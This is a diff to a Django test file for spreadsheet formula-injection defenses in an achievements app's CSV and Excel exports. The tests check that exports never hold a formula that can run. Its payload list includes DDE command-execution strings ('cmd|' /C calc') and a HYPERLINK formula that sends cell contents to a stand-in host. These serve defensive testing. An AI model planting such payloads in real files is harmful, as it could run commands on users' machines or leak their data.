@@ -2,6 +2,7 @@
 
 import csv
 from io import BytesIO, StringIO
+from itertools import product
 from pathlib import Path
 from typing import Any
 
@@ -11,6 +12,7 @@ from django.test import Client
 from openpyxl import load_workbook
 
 from accounts.models import Member
+from achievements.exporting import unescaped, write_table
 from achievements.models import Achievement, ImportRefusal, ImportRun
 from achievements.services.import_runs import run_import, upload_import
 from achievements.services.office import tag_listing
@@ -24,8 +26,30 @@ FORMULAS = [
     *(f"{start}1+cmd|' /C calc'!A0" for start in STARTS),
     *('=HYPERLINK("http://192.0.2.1/?"&A1,"Click")', "@SUM(1)*cmd", "-2+3", "+1", "=1;=2", "=1,=2"),
     *("'=1", "''=1+1", "'-5 °C", "\u200b=1", "\u00a0+1", "\u3000＝1", "\ufeff=1"),
+    *(
+        "a;=1",
+        "a; '=1",
+        "a|=1",
+        "a\t=1",
+        "a\n=1",
+        'a;"=1"',
+        "a;\t'=1",
+        "a;'\t\"'＝1",
+        "a;b=1",
+        ";;-1",
+    ),
     *("=1\n=2", "'quoted' stays", "a=1", "负=1", '"=1"', "%0A=1", "|=1"),
 ]
+
+
+def _cells(text: str) -> list[str]:
+    """The cells of a CSV file, also as a spreadsheet of another country takes it apart."""
+    return [
+        cell
+        for separator in ",;|\t"
+        for row in csv.reader(StringIO(text), delimiter=separator)
+        for cell in row
+    ]
 
 
 def _may_run(cell: str) -> bool:
@@ -74,7 +98,7 @@ def test_portfolio_holds_no_formula_and_is_read_back_as_it_was(owner: Member, fo
     data = client.get(f"{door}/portfolio/export/{form}/?{query}").content
 
     if form == "csv":
-        cells = [cell for row in csv.reader(StringIO(data.decode("utf-8-sig"))) for cell in row]
+        cells = _cells(data.decode("utf-8-sig"))
     else:
         rows = load_workbook(BytesIO(data)).active.iter_rows()
         found = [cell for row in rows for cell in row]
@@ -90,6 +114,13 @@ def test_portfolio_holds_no_formula_and_is_read_back_as_it_was(owner: Member, fo
     assert {english or chinese for english, chinese in after} == before
 
 
+def test_text_is_read_back_as_it_was_wherever_a_formula_could_begin():
+    texts = ["".join(signs) for n in range(6) for signs in product("a;'=\"\t", repeat=n)]
+    for text in [*FORMULAS, *texts]:
+        (_header, (cell,)) = csv.reader(StringIO(write_table(["x"], [[text]], "csv").decode()))
+        assert unescaped(cell) == text
+
+
 def test_refused_rows_hold_no_formula_and_come_back_the_same(owner: Member):
     buffer = StringIO(newline="")
     writer = csv.writer(buffer)
@@ -100,9 +131,9 @@ def test_refused_rows_hold_no_formula_and_come_back_the_same(owner: Member):
     client.force_login(owner.user)
 
     data = client.get(f"/imports/{first.pk}/refused/").content
-    rows = list(csv.reader(StringIO(data.decode("utf-8-sig"))))
-    assert [cell for row in rows for cell in row if _may_run(cell)] == []
-    assert len(rows) == 1 + len(FORMULAS)
+    text = data.decode("utf-8-sig")
+    assert [cell for cell in _cells(text) if _may_run(cell)] == []
+    assert len(list(csv.reader(StringIO(text)))) == 1 + len(FORMULAS)
 
     second = _uploaded(owner, data)
     assert second.report["bad"] == first.report["bad"] == len(FORMULAS)
